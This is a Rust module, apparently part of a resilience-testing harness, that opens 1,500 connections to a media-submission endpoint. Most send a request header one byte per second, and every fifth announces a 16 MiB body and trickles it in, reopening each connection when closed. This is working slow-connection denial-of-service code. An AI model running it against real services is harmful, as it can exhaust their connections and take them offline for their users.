//! Connections that send a head a byte at a time, or announce a large body and send it just fast enough. What is closed
//! is opened again.

use std::{io, time::Duration};

use futures::future::join_all;
use tokio::{io::AsyncWriteExt as _, time::sleep};

use super::team::Team;
use crate::http;

const CONNECTIONS: usize = 1_500;
/// One connection in this number sends a body.
const BODIES: usize = 5;
const BEAT: Duration = Duration::from_secs(1);
/// What a body gets each second: more than the 16 KiB that are asked for.
static PIECE: [u8; 48 << 10] = [b' '; 48 << 10];
const BODY: usize = 16 << 20;

pub(super) async fn attack(team: &Team) {
    team.note(format!("{CONNECTIONS} connections at once"));
    let connections = (0..CONNECTIONS).map(|number| async move {
        // Not all at the same moment.
        sleep(BEAT * u32::try_from(number).unwrap_or(0) / 1_500).await;
        loop {
            // It ends when the service closes it, as intended.
            let _ = hold(team, number).await;
            sleep(BEAT).await;
        }
    });
    join_all(connections).await;
}

async fn hold(team: &Team, number: usize) -> io::Result<()> {
    let mut stream = http::connect(Some(Team::source(number)), team.brief.api).await?;
    stream
        .write_all(b"POST /functions/v1/submit-media HTTP/1.1\r\nhost: gatehouse\r\n")
        .await?;
    if number.is_multiple_of(BODIES) {
        let rest = format!("content-type: application/json\r\ncontent-length: {BODY}\r\n\r\n");
        stream.write_all(rest.as_bytes()).await?;
        for _ in 0..BODY / PIECE.len() {
            stream.write_all(&PIECE).await?;
            sleep(BEAT).await;
        }
        return Ok(());
    }
    loop {
        stream.write_all(b"x").await?;
        sleep(BEAT).await;
    }
}
